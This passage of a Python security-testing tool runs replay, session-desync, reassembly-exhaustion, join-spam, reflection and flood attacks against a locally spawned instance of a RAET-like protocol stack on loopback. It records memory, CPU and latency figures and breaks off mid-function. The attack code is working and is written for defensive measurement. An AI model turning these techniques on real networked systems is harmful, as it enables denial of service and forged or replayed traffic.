"""Measure issue 13's attacks against a live ``raetlike estate --main --echo`` on loopback.

Each subcommand starts its own victim(s) (``python -m raetlike estate main --main
--echo`` on 127.0.0.1, a fresh keep under a temporary directory, the code of
``--tree``), attacks it from this process, and prints a small table of figures
(``--json``: one JSON line).  Attackers use the project's own codecs
(``raetlike.wire``, ``raetlike.crypto``) and, where keys are needed, an in-process
``road.RoadStack`` that joined and was allowed like any peer.

    python tools/attack.py desync      # unsigned session ids vs a RAET-mode peer
    python tools/attack.py replay      # session-id walks, then a captured packet again
    python tools/attack.py reassembly  # declared sizes, partials, RESEND storm, fast mode
    python tools/attack.py joinspam    # join requests of fake estates
    python tools/attack.py reflect     # answer bytes to a (spoofed) source that never answers
    python tools/attack.py flood       # garbage datagrams vs a legitimate ping

Only 127.0.0.1 is ever used.  Figures are what they are: the tool asserts nothing
about the victim.  ``--tree DIR`` picks the source tree the victim (and this
process) runs; by default the tree this file is in.
"""

from __future__ import annotations

import argparse
import contextlib
import json
import os
import random
import select
import shutil
import signal
import socket
import statistics
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

HOST = "127.0.0.1"
TREE = Path(__file__).resolve().parent.parent


def _tree_from_argv() -> Path:
    for i, arg in enumerate(sys.argv):
        if arg == "--tree" and i + 1 < len(sys.argv):
            return Path(sys.argv[i + 1]).resolve()
        if arg.startswith("--tree="):
            return Path(arg.split("=", 1)[1]).resolve()
    return TREE


TREE = _tree_from_argv()
sys.path.insert(0, str(TREE))

from raetlike.crypto import PrivateKey, SigningKey, counter_nonce  # noqa: E402
from raetlike.wire.body import pack_body  # noqa: E402
from raetlike.wire.head import Head  # noqa: E402
from raetlike.wire.kinds import (  # noqa: E402
    AutoMode,
    BodyKind,
    CoatKind,
    Flag,
    FootKind,
    HeadKind,
    PacketKind,
    TransactionKind,
)
from raetlike.wire.packet import pack_packet, parse_packet  # noqa: E402
from road import events  # noqa: E402
from road.keeping import MemoryKeep  # noqa: E402
from road.stack import LocalEstate, RoadConfig, RoadStack  # noqa: E402

Address = tuple[str, int]
CLOCK_TICK = os.sysconf("SC_CLK_TCK")
PAGE_LIMIT = 1024  # RAET's datagram limit
PING_TIMEOUT = 30.0  # a ping under attack may take long; its p50 is still a figure


# == the victim ==========================================================================


class Victim:
    """``raetlike estate main --main --echo`` in a subprocess, with its own keep."""

    def __init__(self, workdir: Path, *, auto: str = "once", raet_mode: bool = False,
                 name: str = "main", tag: str = "") -> None:
        self.name = name
        self.dir = workdir / f"victim{tag}-{auto}{'-raet' if raet_mode else ''}"
        self.keep = self.dir / "keep"
        self.dir.mkdir(mode=0o700, parents=True, exist_ok=True)
        self.log_path = self.dir / "estate.log"
        cmd = [sys.executable, "-m", "raetlike", "estate", name, "--host", HOST, "--port", "0",
               "--main", "--echo", "--auto", auto, "--keep", str(self.keep)]
        if raet_mode:
            cmd.append("--raet-mode")
        self._log = open(self.log_path, "wb")  # noqa: SIM115 - closed in stop()
        self.proc = subprocess.Popen(cmd, cwd=TREE, env=tree_env(), stdout=subprocess.PIPE,
                                     stderr=self._log, start_new_session=True)
        stdout = self.proc.stdout
        ready = select.select([stdout], [], [], 30)[0] if stdout is not None else []
        line = stdout.readline().decode() if stdout is not None and ready else ""
        if "listening on" not in line:
            self.stop()
            raise RuntimeError(f"victim did not start: {line!r}; see {self.log_path}: "
                               f"{self.log_path.read_text()[-800:]}")
        self.port = int(line.rsplit(":", 1)[1])
        self.address: Address = (HOST, self.port)
        self.pid = self.proc.pid

    def alive(self) -> bool:
        return self.proc.poll() is None

    def rss(self) -> int:
        """Resident set size in bytes (0 once it is gone)."""
        try:
            for line in Path(f"/proc/{self.pid}/status").read_text().splitlines():
                if line.startswith("VmRSS:"):
                    return int(line.split()[1]) * 1024
        except OSError:
            pass
        return 0

    def cpu_seconds(self) -> float:
        try:
            fields = Path(f"/proc/{self.pid}/stat").read_text().rsplit(")", 1)[1].split()
        except OSError:
            return 0.0
        return (int(fields[11]) + int(fields[12])) / CLOCK_TICK

    def cpu_percent(self, seconds: float) -> float:
        """CPU % of one core over the next ``seconds``."""
        before, start = self.cpu_seconds(), time.monotonic()
        time.sleep(seconds)
        return 100.0 * (self.cpu_seconds() - before) / (time.monotonic() - start)

    def role_files(self) -> int:
        return len(list((self.keep / self.name / "role" / "remote").glob("role.*.json")))

    def remote_files(self) -> int:
        return len(list((self.keep / self.name / "remote").glob("estate.*.json")))

    def keep_bytes(self) -> int:
        return sum(p.stat().st_size for p in self.keep.rglob("*") if p.is_file())

    def stop(self) -> None:
        if self.proc.poll() is None:
            self.proc.send_signal(signal.SIGTERM)
            try:
                self.proc.wait(10)
            except subprocess.TimeoutExpired:
                self.proc.kill()
                self.proc.wait()
        if self.proc.stdout is not None:
            self.proc.stdout.close()
        self._log.close()


def tree_env() -> dict[str, str]:
    env = dict(os.environ)
    env["PYTHONPATH"] = os.pathsep.join(
        [str(TREE)] + [p for p in env.get("PYTHONPATH", "").split(os.pathsep) if p])
    return env


@contextlib.contextmanager
def victims(workdir: Path) -> Iterator[Callable[..., Victim]]:
    started: list[Victim] = []

    def start(**kwargs: Any) -> Victim:
        victim = Victim(workdir, tag=str(len(started)), **kwargs)
        started.append(victim)
        return victim

    try:
        yield start
    finally:
        for victim in started:
            victim.stop()


# == a legitimate ping (a separate process: `raetlike ping`) =============================


def legit_ping(address: Address, *, count: int, timeout: float,
               raet_mode: bool = False) -> dict[str, Any]:
    """`raetlike ping --json` against ``address``: its JSON, or {"ok": False, "error": ...}."""
    cmd = [sys.executable, "-m", "raetlike", "ping", f"{address[0]}:{address[1]}",
           "--count", str(count), "--timeout", str(timeout), "--json", "-q"]
    if raet_mode:
        cmd.append("--raet-mode")
    started = time.monotonic()
    done = subprocess.run(cmd, cwd=TREE, env=tree_env(), capture_output=True, text=True,
                          timeout=timeout + 30, check=False)
    try:
        result: dict[str, Any] = json.loads(done.stdout.strip().splitlines()[-1])
    except (ValueError, IndexError):
        result = {"ok": False, "error": (done.stderr.strip().splitlines() or ["no output"])[-1]}
    result.setdefault("ok", done.returncode == 0)
    result["wall_s"] = round(time.monotonic() - started, 3)
    return result


class PingLoop(threading.Thread):
    """Pings one after another until stopped: the p50s of each run (failures counted)."""

    def __init__(self, address: Address, count: int, timeout: float) -> None:
        super().__init__(daemon=True)
        self.address, self.count, self.timeout = address, count, timeout
        self.results: list[dict[str, Any]] = []
        self.stopping = threading.Event()

    def run(self) -> None:
        while not self.stopping.is_set():
            self.results.append(legit_ping(self.address, count=self.count,
                                           timeout=self.timeout))

    def stop(self) -> dict[str, Any]:
        self.stopping.set()
        self.join()
        return summarize_pings(self.results)


def summarize_pings(results: list[dict[str, Any]]) -> dict[str, Any]:
    good = [r for r in results if r.get("ok") and "rtt_p50_ms" in r]
    return {
        "runs": len(results),
        "failed": len(results) - len(good),
        "p50_ms": round(statistics.median(r["rtt_p50_ms"] for r in good), 3) if good else None,
        "worst_p50_ms": max((r["rtt_p50_ms"] for r in good), default=None),
        "join_ms": round(statistics.median(r["join_ms"] for r in good), 3) if good else None,
        "errors": sorted({str(r.get("error", ""))[:120] for r in results if r not in good}),
    }


def p50(summary: dict[str, Any] | None) -> Any:
    """A ping summary's p50, or why there is none."""
    if summary is None:
        return "n/a"
    if summary["p50_ms"] is not None:
        return summary["p50_ms"]
    return f"no ping completed ({summary['failed']} failed: {'; '.join(summary['errors'])})"


def quiet_ping(address: Address, count: int, runs: int = 3) -> dict[str, Any]:
    return summarize_pings([legit_ping(address, count=count, timeout=15) for _ in range(runs)])


# == an in-process legitimate peer (a RoadStack over its own socket) =====================


class Peer:
    """A road stack that joins the victim as any estate would; taps what it sends."""

    def __init__(self, name: str, *, raet_mode: bool) -> None:
        self.stack = RoadStack(LocalEstate(name),
                               RoadConfig(auto=AutoMode.ONCE, fast=not raet_mode),
                               keep=MemoryKeep(AutoMode.ONCE), now=time.monotonic())
        self.sock = udp_socket()
        self.sent: list[bytes] = []
        self.received: list[bytes] = []
        self.bodies: list[Any] = []
        self.remote_name = ""
        self.allowed = False

    def close(self) -> None:
        self.sock.close()

    def join(self, address: Address, timeout: float = 15.0) -> None:
        self.stack.join(address, now=time.monotonic())
        if not self.pump(timeout, lambda: self.allowed):
            raise RuntimeError(f"peer {self.stack.name} did not join and allow in {timeout} s")

    @property
    def remote(self) -> Any:
        return self.stack.remote(self.remote_name)

    def transmit(self, body: dict[str, Any]) -> None:
        self.stack.transmit(body, to=self.remote_name, now=time.monotonic())
        self.flush()

    def flush(self) -> None:
        for data, address in self.stack.datagrams_to_send(time.monotonic()):
            self.sent.append(data)
            with contextlib.suppress(OSError):
                self.sock.sendto(data, address)

    def pump(self, seconds: float, until: Callable[[], bool] | None = None) -> bool:
        """Run the stack for up to ``seconds``; True as soon as ``until()`` holds."""
        end = time.monotonic() + seconds
        while True:
            if until is not None and until():
                return True
            now = time.monotonic()
            if now >= end:
                return False
            wait = min(0.02, end - now)
            timer = self.stack.get_timer()
            if timer is not None:
                wait = max(0.0, min(wait, timer - now))
            ready, _, _ = select.select([self.sock], [], [], wait)
            if ready:
                for data, source in drain(self.sock):
                    self.received.append(data)
                    self.stack.receive_datagram(data, source, time.monotonic())
            now = time.monotonic()
            timer = self.stack.get_timer()
            if timer is not None and timer <= now:
                self.stack.handle_timer(now)
            self.flush()
            while (event := self.stack.next_event()) is not None:
                if isinstance(event, events.Allowed):
                    self.allowed, self.remote_name = True, event.remote
                elif isinstance(event, events.Joined):
                    self.remote_name = event.remote
                elif isinstance(event, events.MessageReceived):
                    self.bodies.append(event.body)


def udp_socket(buffer: int = 4 * 1024 * 1024) -> socket.socket:
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for option in (socket.SO_RCVBUF, socket.SO_SNDBUF):
        with contextlib.suppress(OSError):
            sock.setsockopt(socket.SOL_SOCKET, option, buffer)
    sock.bind((HOST, 0))
    sock.setblocking(False)
    return sock


def drain(sock: socket.socket) -> Iterator[tuple[bytes, Address]]:
    while True:
        try:
            data, source = sock.recvfrom(65535)
        except (BlockingIOError, InterruptedError):
            return
        except OSError:  # ICMP port unreachable and the like
            return
        yield data, (str(source[0]), int(source[1]))


class Counter:
    """Datagrams and bytes that arrive on some sockets (drained in a thread)."""

    def __init__(self, socks: list[socket.socket],
                 on_datagram: Callable[[socket.socket, bytes], None] | None = None) -> None:
        self.socks = socks
        self.on_datagram = on_datagram
        self.datagrams = 0
        self.bytes = 0
        self.kinds: dict[str, int] = {}
        self.kind_bytes: dict[str, int] = {}
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()

    def _run(self) -> None:
        while not self._stop.is_set():
            ready, _, _ = select.select(self.socks, [], [], 0.05)
            for sock in ready:
                for data, _ in drain(sock):
                    self.note(data)
                    if self.on_datagram is not None:
                        self.on_datagram(sock, data)

    def note(self, data: bytes) -> None:
        self.datagrams += 1
        self.bytes += len(data)
        kind = packet_kind_name(data)
        self.kinds[kind] = self.kinds.get(kind, 0) + 1
        self.kind_bytes[kind] = self.kind_bytes.get(kind, 0) + len(data)

    def stop(self) -> None:
        self._stop.set()
        self._thread.join()


def packet_kind_name(data: bytes) -> str:
    if data[:2] == b"\xb2\x02":
        return "fast"
    try:
        head = parse_packet(data).head
    except Exception:  # noqa: BLE001 - anything unparseable is just "other"
        return "other"
    return f"{head.transaction_kind.name.lower()}/{head.packet_kind.name.lower()}"


# == packets an attacker builds with the project's codecs ================================


def unsigned_packet(*, de: int, se: int, si: int, ti: int,
                    tk: TransactionKind = TransactionKind.MESSAGE,
                    pk: PacketKind = PacketKind.MESSAGE, coat: bytes = b"") -> bytes:
    head = Head(packet_kind=pk, transaction_kind=tk, source_uid=se, destination_uid=de,
                session_id=si, transaction_id=ti, body_kind=BodyKind.JSON,
                coat_kind=CoatKind.NACL if coat else CoatKind.NADA)
    return pack_packet(head, coat)


def join_request(name: str, se: int, ti: int, *, extra: int = 0) -> bytes:
    """A vacuous join request of a fresh fake estate (its own real keys)."""
    body: dict[str, Any] = {
        "name": name, "mode": 0, "kind": 0,
        "verhex": SigningKey.generate().verify_key.hex(),
        "pubhex": PrivateKey.generate().public_key.hex(), "role": name,
    }
    for i in range(extra):
        body[f"x{i}"] = i
    head = Head(packet_kind=PacketKind.REQUEST, transaction_kind=TransactionKind.JOIN,
                source_uid=se, destination_uid=0, session_id=0, transaction_id=ti,
                body_kind=BodyKind.JSON)
    return pack_packet(head, pack_body(BodyKind.JSON, body), limit=65000)


def join_ack(se: int, ti: int) -> bytes:
    """The joiner's unsigned ack that completes a vacuous join (needs nothing from the answer)."""
    head = Head(packet_kind=PacketKind.ACK, transaction_kind=TransactionKind.JOIN,
                source_uid=se, destination_uid=0, session_id=0, transaction_id=ti,
                body_kind=BodyKind.JSON)
    return pack_packet(head, b"")


def signed_segment(peer: Peer, *, ti: int, sn: int, sc: int, ml: int, chunk: bytes,
                   wait: bool) -> bytes:
    """One message segment signed with the peer's keys, in its current session."""
    remote = peer.remote
    flags = Flag.SEGMENTED | (Flag.WAIT if wait else Flag(0))
    head = Head(packet_kind=PacketKind.MESSAGE, transaction_kind=TransactionKind.MESSAGE,
                source_uid=remote.uid, destination_uid=remote.far_uid,
                session_id=remote.session_id, transaction_id=ti, flags=flags,
                segment_number=sn, segment_count=sc, message_length=ml,
                body_kind=BodyKind.JSON, coat_kind=CoatKind.NACL, foot_kind=FootKind.NACL,
                head_kind=HeadKind.RAET)
    return pack_packet(head, chunk, peer.stack.local.signing_key)


def segment_chunk_room(peer: Peer) -> int:
    """Coat bytes that fit in one signed segment with the largest segment fields."""
    probe = signed_segment(peer, ti=0xFFFFFFFF, sn=0xFFFE, sc=0xFFFF, ml=0x3FFFFFF,
                           chunk=b"", wait=True)
    return PAGE_LIMIT - len(probe) - 8


# == output ==============================================================================


def report(args: argparse.Namespace, title: str, figures: dict[str, Any]) -> None:
    figures = {"attack": title, "tree": str(TREE), **figures}
    if args.json:
        print(json.dumps(figures, default=str), flush=True)
        return
    print(f"== {title}  (tree {TREE})")
    width = max(len(k) for k in figures)
    for key, value in figures.items():
        if key in ("attack", "tree"):
            continue
        shown = value
        if isinstance(value, float):
            shown = f"{value:.4g}"
        elif isinstance(value, dict | list):
            shown = json.dumps(value, default=str)
        print(f"  {key:<{width}}  {shown}")
    sys.stdout.flush()


def mb(n: float) -> float:
    return round(n / 1e6, 3)


def ratio(a: float, b: float) -> float | None:
    return round(a / b, 3) if b else None


def send_all(sock: socket.socket, datagrams: list[bytes], address: Address,
             rate: float = 0.0) -> int:
    """Send every datagram (blocking on a full buffer), paced to ``rate``/s if given."""
    sent = 0
    start = time.monotonic()
    for i, data in enumerate(datagrams):
        while True:
            try:
                sock.sendto(data, address)
                break
            except BlockingIOError:
                select.select([], [sock], [], 0.01)
        sent += len(data)
        if rate and i % 16 == 0:
            ahead = start + i / rate - time.monotonic()
            if ahead > 0:
                time.sleep(ahead)
    return sent


# == 1. desync ===========================================================================


def attack_desync(args: argparse.Namespace, start: Callable[..., Victim]) -> dict[str, Any]:
    victim = start(auto="once")
    peer = Peer("minion1", raet_mode=True)
    try:
        peer.join(victim.address)
        peer.transmit({"probe": "before"})
        baseline = peer.pump(10, lambda: len(peer.bodies) >= 1)
        remote = peer.remote
        si = (remote.session_id + 0x40000000) & 0xFFFFFFFF or 1
        attacker = udp_socket()
        forged = [unsigned_packet(de=de, se=random.randrange(1, 1 << 32), si=si,
                                  ti=random.randrange(1, 1 << 32),
                                  coat=os.urandom(40))
                  for de in range(args.uid_low, args.uid_low + args.datagrams)]
        sent = send_all(attacker, forged, victim.address)
        time.sleep(0.2)
        drain_count = sum(1 for _ in drain(attacker))
        attacker.close()
        received_before = len(peer.received)
        peer.bodies.clear()
        for i in range(args.echoes):
            peer.transmit({"probe": "after", "seq": i})
        peer.pump(args.wait, lambda: len(peer.bodies) >= args.echoes)
        answers = peer.received[received_before:]
        nacks = sum(1 for d in answers if packet_kind_name(d).endswith("/nack"))
        return {
            "forged_datagrams": len(forged), "forged_bytes": sent,
            "forged_uids": f"{args.uid_low}..{args.uid_low + args.datagrams - 1}",
            "forged_session_id": si, "peer_uid_at_victim": remote.far_uid,
            "baseline_echo_ok": baseline, "answers_to_attacker": drain_count,
            "echoes_sent": args.echoes, "echoes_back": len(peer.bodies),
            "wait_s": args.wait, "nacks_to_peer": nacks,
            "datagrams_to_peer_after": len(answers),
        }
    finally:
        peer.close()


# == 2. replay ===========================================================================


def _message_packets(datagrams: list[bytes]) -> list[bytes]:
    found = []
    for data in datagrams:
        with contextlib.suppress(Exception):
            head = parse_packet(data).head
            if (head.transaction_kind == TransactionKind.MESSAGE
                    and head.packet_kind == PacketKind.MESSAGE
                    and not int(head.flags) & int(Flag.CORRESPONDENT)
                    and head.foot_kind == FootKind.NACL):
                found.append(data)
    return found


def session_walk(s0: int) -> list[int]:
    """Session ids that each look newer than the one before (RAET's rule: less than 2^31
    ahead mod 2^32) and come back to ``s0``; never 0 (always valid, so no use)."""
    for steps in (3, 4, 5):
        walk = [(s0 + k * ((1 << 32) // steps)) & 0xFFFFFFFF for k in range(1, steps)] + [s0]
        if all(walk):
            return walk
    raise RuntimeError(f"no walk around session id {s0}")


def attack_replay(args: argparse.Namespace, start: Callable[..., Victim]) -> dict[str, Any]:
    victim = start(auto="once")
    peer = Peer("minion1", raet_mode=True)
    try:
        peer.join(victim.address)
        mark = len(peer.sent)
        probe = {"probe": "replay", "nonce": os.urandom(4).hex()}
        peer.transmit(probe)
        peer.pump(10, lambda: probe in peer.bodies)
        captured = _message_packets(peer.sent[mark:])
        if not captured:
            raise RuntimeError("captured no signed message packet of the peer")
        packet = captured[0]
        head = parse_packet(packet).head
        attacker = udp_socket()
        # control: the captured packet replayed as is (no walk)
        attacker.sendto(packet, victim.address)
        peer.pump(1.5)
        control = peer.bodies.count(probe) - 1
        s0 = head.session_id
        walk = session_walk(s0)
        forged = 0
        for _ in range(args.walks):
            for si in walk:
                data = unsigned_packet(de=head.destination_uid, se=head.source_uid, si=si,
                                       ti=random.randrange(1, 1 << 32), coat=os.urandom(40))
                attacker.sendto(data, victim.address)
                forged += len(data)
            time.sleep(0.05)
            attacker.sendto(packet, victim.address)
            forged += len(packet)
            peer.pump(1.0)
        peer.pump(args.wait)
        attacker.close()
        copies = peer.bodies.count(probe)
        return {
            "captured_packet_bytes": len(packet), "captured_session_id": s0,
            "captured_transaction_id": head.transaction_id,
            "control_duplicates_without_walk": control,
            "walks": args.walks, "walk": walk, "unsigned_walk_packets": len(walk) * args.walks,
            "attacker_bytes": forged,
            "echoes_of_probe": copies, "duplicate_deliveries": max(0, copies - 1 - control),
        }
    finally:
        peer.close()


# == 3. reassembly =======================================================================


def _rss_figures(victim: Victim, before: int, sent: int, wait: float) -> dict[str, Any]:
    time.sleep(1.0)
    after = victim.rss()
    time.sleep(max(0.0, wait - 1.0))
    later = victim.rss()
    return {
        "attacker_bytes": sent, "rss_before_mb": mb(before), "rss_after_mb": mb(after),
        "rss_growth_mb": mb(after - before),
        "rss_per_attacker_byte": ratio(after - before, sent),
        f"rss_growth_after_{wait:g}s_mb": mb(later - before),
        "victim_alive": victim.alive(),
    }


def reassembly_prealloc(args: argparse.Namespace, start: Callable[..., Victim]) -> dict[str, Any]:
    """(a) first segments that claim 65,535 segments, no wait flag."""
    victim = start(auto="once")
    peer = Peer("minion1", raet_mode=True)
    try:
        peer.join(victim.address)
        peer.pump(0.5)
        room = segment_chunk_room(peer)
        datagrams = [signed_segment(peer, ti=peer.remote.next_transaction_id(), sn=0,
                                    sc=0xFFFF, ml=0xFFFF * room, chunk=os.urandom(room),
                                    wait=False)
                     for _ in range(args.prealloc)]
        counter = Counter([peer.sock])
        before = victim.rss()
        sent = send_all(peer.sock, datagrams, victim.address, rate=args.rate)
        figures = {"datagrams": len(datagrams), **_rss_figures(victim, before, sent, args.wait)}
        counter.stop()
        figures["answer_bytes"] = counter.bytes
        return figures
    finally:
        peer.close()


def reassembly_partials(args: argparse.Namespace, start: Callable[..., Victim]) -> dict[str, Any]:
    """(b) partial messages (segment 0 of ``--partial-count``) without the wait flag."""
    victim = start(auto="once")
    peer = Peer("minion1", raet_mode=True)
    try:
        peer.join(victim.address)
        peer.pump(0.5)
        room = segment_chunk_room(peer)
        count = args.partial_count
        datagrams = [signed_segment(peer, ti=peer.remote.next_transaction_id(), sn=0,
                                    sc=count, ml=count * room, chunk=os.urandom(room),
                                    wait=False)
                     for _ in range(args.partials)]
        counter = Counter([peer.sock])
        before = victim.rss()
        sent = send_all(peer.sock, datagrams, victim.address, rate=args.rate)
        figures = {"datagrams": len(datagrams), "declared_segments": count,
                   **_rss_figures(victim, before, sent, args.wait)}
        counter.stop()
        figures["answer_bytes"] = counter.bytes
        return figures
    finally:
        peer.close()


def reassembly_resend(args: argparse.Namespace, start: Callable[..., Victim]) -> dict[str, Any]:
    """(c) segments sn=65534 of 65,535 with the wait flag: RESEND packets that come back."""
    victim = start(auto="once")
    quiet = quiet_ping(victim.address, args.ping_count, runs=2)
    peer = Peer("minion1", raet_mode=True)
    try:
        peer.join(victim.address)
        peer.pump(0.5)
        room = segment_chunk_room(peer)
        datagrams = [signed_segment(peer, ti=peer.remote.next_transaction_id(), sn=0xFFFE,
                                    sc=0xFFFF, ml=0xFFFF * room, chunk=os.urandom(room),
                                    wait=True)
                     for _ in range(args.resend_segments)]
        counter = Counter([peer.sock])  # the peer's stack no longer answers: an attacker
        cpu_before, t0 = victim.cpu_seconds(), time.monotonic()
        pings = PingLoop(victim.address, args.ping_count, timeout=PING_TIMEOUT)
        sent = send_all(peer.sock, datagrams, victim.address)
        pings.start()
        time.sleep(args.resend_window)
        cpu = 100.0 * (victim.cpu_seconds() - cpu_before) / (time.monotonic() - t0)
        counter.stop()  # what came back within the window
        during = pings.stop()  # (the ping under way runs to its end)
        resend_bytes = counter.kind_bytes.get("message/resend", 0)
        return {
            "segments_sent": len(datagrams), "attacker_bytes": sent,
            "window_s": args.resend_window,
            "resend_packets_back": counter.kinds.get("message/resend", 0),
            "resend_bytes_back": resend_bytes, "all_bytes_back": counter.bytes,
            "answer_bytes_per_attacker_byte": ratio(counter.bytes, sent),
            "victim_cpu_percent": round(cpu, 1),
            "ping_p50_quiet_ms": p50(quiet), "ping_p50_during_ms": p50(during),
            "pings_during": during, "victim_alive": victim.alive(),
        }
    finally:
        peer.close()


def reassembly_fast(args: argparse.Namespace, start: Callable[..., Victim]) -> dict[str, Any]:
    """(d) fast mode: chunks of messages announced huge (2^32-1 chunks) and never completed."""
    victim = start(auto="once")
    peer = Peer("minion1", raet_mode=False)
    try:
        peer.join(victim.address)
        peer.pump(0.5)
        remote = peer.remote
        links = getattr(getattr(peer.stack, "_fast", None), "links", {})
        link = links.get(remote.uid)
        if link is None or getattr(link, "send_key", None) is None:
            return {"skipped": "no fast link was negotiated with the victim"}
        from road._fast_wire import pack_header, pack_message_head  # noqa: PLC0415
        frame_data = args.fast_chunk
        frame_size = 24 + frame_data
        per_datagram = max(1, (args.fast_datagram - 20 - 16) // frame_size)
        number = 1_000_000
        packet_number = link.next_packet + 64
        datagrams = []
        for _ in range(args.fast_datagrams):
            frames = []
            for _ in range(per_datagram):
                number += 1
                frames.append(pack_message_head(number, 0xFFFFFFFF, 0, 0xFFFFFFFF,
                                                body_kind=int(BodyKind.RAW),
                                                size=frame_data) + os.urandom(frame_data))
            # (the stream id is the send stream's since issue 15; the link's before)
            stream_id = getattr(link, "sending", link).stream_id
            header = pack_header(link.key_id, remote.far_uid, stream_id, packet_number)
            sealed = link.send_key.seal(b"".join(frames), counter_nonce(0, packet_number),
                                        header)
            datagrams.append(header + sealed)
            packet_number += 1
        counter = Counter([peer.sock])
        before = victim.rss()
        sent = send_all(peer.sock, datagrams, victim.address, rate=args.rate)
        figures = {"datagrams": len(datagrams), "frames": len(datagrams) * per_datagram,
                   "frame_data_bytes": frame_data,
                   **_rss_figures(victim, before, sent, args.wait)}
        counter.stop()
        figures["answer_bytes"] = counter.bytes
        return figures
    finally:
        peer.close()


def attack_reassembly(args: argparse.Namespace, start: Callable[..., Victim]) -> dict[str, Any]:
    parts = {"a_prealloc": reassembly_prealloc, "b_partials": reassembly_partials,
             "c_resend": reassembly_resend, "d_fast": reassembly_fast}
    chosen = args.parts.split(",") if args.parts else list(parts)
    out: dict[str, Any] = {}
    for key in chosen:
        name = next(k for k in parts if k.startswith(key))
        out[name] = parts[name](args, start)
    return out


# == 4. joinspam =========================================================================


def joinspam_one(args: argparse.Namespace, start: Callable[..., Victim],
                 auto: str) -> dict[str, Any]:
    victim = start(auto=auto)
    can_ping = auto != "never"
    quiet = quiet_ping(victim.address, args.ping_count, runs=2) if can_ping else None
    idle_before = victim.cpu_percent(1.0)
    socks = [udp_socket(1 << 20) for _ in range(args.sockets)]
    acks: list[tuple[socket.socket, bytes]] = []
    lock = threading.Lock()

    def answered(sock: socket.socket, data: bytes) -> None:
        if not args.complete:
            return
        try:
            head = parse_packet(data).head
        except Exception:  # noqa: BLE001
            return
        if (head.transaction_kind == TransactionKind.JOIN
                and head.packet_kind == PacketKind.RESPONSE):
            with lock:
                acks.append((sock, join_ack(head.destination_uid, head.transaction_id)))

    counter = Counter(socks, answered)
    pings = PingLoop(victim.address, args.ping_count, timeout=PING_TIMEOUT) if can_ping else None
    if pings is not None:
        pings.start()
    sent = 0
    began = time.monotonic()
    rate = args.count / args.spam_seconds
    for i in range(args.count):
        sock = socks[i % len(socks)]
        data = join_request(f"fake{i:06d}", se=2 + i, ti=1, extra=args.extra_keys)
        with contextlib.suppress(BlockingIOError):
            sock.sendto(data, victim.address)
            sent += len(data)
        with lock:
            todo, acks[:] = acks[:], []
        for ack_sock, ack in todo:
            with contextlib.suppress(BlockingIOError):
                ack_sock.sendto(ack, victim.address)
                sent += len(ack)
        ahead = began + (i + 1) / rate - time.monotonic()
        if ahead > 0:
            time.sleep(ahead)
    deadline = time.monotonic() + 2.0
    while time.monotonic() < deadline:  # the last answers, and their acks
        with lock:
            todo, acks[:] = acks[:], []
        for ack_sock, ack in todo:
            with contextlib.suppress(BlockingIOError):
                ack_sock.sendto(ack, victim.address)
                sent += len(ack)
        time.sleep(0.05)
    spam_s = time.monotonic() - began
    during = pings.stop() if pings is not None else None
    time.sleep(args.settle)
    cpu_after = victim.cpu_percent(args.idle_seconds)
    after = quiet_ping(victim.address, args.ping_count, runs=2) if can_ping else None
    counter.stop()
    for sock in socks:
        sock.close()
    return {
        "auto": auto, "join_requests": args.count, "spam_s": round(spam_s, 2),
        "sockets": args.sockets, "completed_with_acks": args.complete,
        "attacker_bytes": sent, "answer_bytes": counter.bytes,
        "answer_bytes_per_attacker_byte": ratio(counter.bytes, sent),
        "answers_by_kind": counter.kinds,
        "role_files": victim.role_files(), "remote_files": victim.remote_files(),
        "keep_mb": mb(victim.keep_bytes()), "rss_mb": mb(victim.rss()),
        "victim_cpu_idle_before_percent": round(idle_before, 1),
        f"victim_cpu_idle_{args.settle:g}s_after_percent": round(cpu_after, 1),
        "ping_p50_quiet_ms": p50(quiet), "ping_p50_during_spam_ms": p50(during),
        "ping_p50_after_spam_ms": p50(after),
        "pings_during_spam": during, "victim_alive": victim.alive(),
    }


def attack_joinspam(args: argparse.Namespace, start: Callable[..., Victim]) -> dict[str, Any]:
    return {f"auto_{auto}": joinspam_one(args, start, auto) for auto in args.autos.split(",")}


# == 5. reflect ==========================================================================


def attack_reflect(args: argparse.Namespace, start: Callable[..., Victim]) -> dict[str, Any]:
    """Bytes a victim sends to a source that sent one join request (and maybe its ack)
    and never answers: what a host whose address was spoofed receives."""
    cases: list[tuple[str, bool, socket.socket, list[bytes], Victim]] = []
    never = start(auto="never")
    once = start(auto="once")
    for victim, auto, with_ack in ((never, "never", False), (once, "once", False),
                                   (once, "once", True)):
        sock = udp_socket()
        se, ti = random.randrange(2, 1 << 31), 1
        request = join_request(f"spoofed{len(cases)}", se=se, ti=ti)
        sent = [request] + ([join_ack(se, ti)] if with_ack else [])
        cases.append((auto, with_ack, sock, sent, victim))
    counters = [Counter([case[2]]) for case in cases]
    for _, with_ack, sock, sent, victim in cases:
        for data in sent:
            sock.sendto(data, victim.address)
            if with_ack:
                time.sleep(0.05)  # blind: the ack needs nothing from the answer
    time.sleep(args.seconds)
    out: dict[str, Any] = {"seconds": args.seconds}
    for (auto, with_ack, sock, sent, _), counter in zip(cases, counters, strict=True):
        counter.stop()
        sock.close()
        attacker = sum(len(d) for d in sent)
        key = f"auto_{auto}_request{'_and_ack' if with_ack else ''}"
        out[key] = {"attacker_bytes": attacker, "answer_bytes": counter.bytes,
                    "answer_datagrams": counter.datagrams,
                    "ratio": ratio(counter.bytes, attacker), "by_kind": counter.kinds}
    return out


# == 6. flood ============================================================================


def garbage_pool(size: int, seed: int) -> list[bytes]:
    """Random bytes, random-but-parseable RAET heads (native and JSON), fake fast headers."""
    rng = random.Random(seed)
    pool: list[bytes] = []
    kinds = list(PacketKind)
    transactions = [TransactionKind.MESSAGE, TransactionKind.ALLOW, TransactionKind.ALIVE]
    while len(pool) < size:
        pick = len(pool) % 4
        if pick == 0:
            pool.append(rng.randbytes(rng.randrange(1, 1200)))
        elif pick == 3:
            pool.append(b"\xb2\x02" + rng.randbytes(rng.randrange(18, 1200)))
        else:
            head = Head(packet_kind=rng.choice(kinds), transaction_kind=rng.choice(transactions),
                        source_uid=rng.randrange(1, 1 << 32),
                        destination_uid=rng.randrange(1 << 16, 1 << 32),
                        session_id=rng.randrange(1, 1 << 32),
                        transaction_id=rng.randrange(1, 1 << 32),
                        flags=Flag(rng.choice([0, 1, 4, 16])), body_kind=BodyKind.JSON,
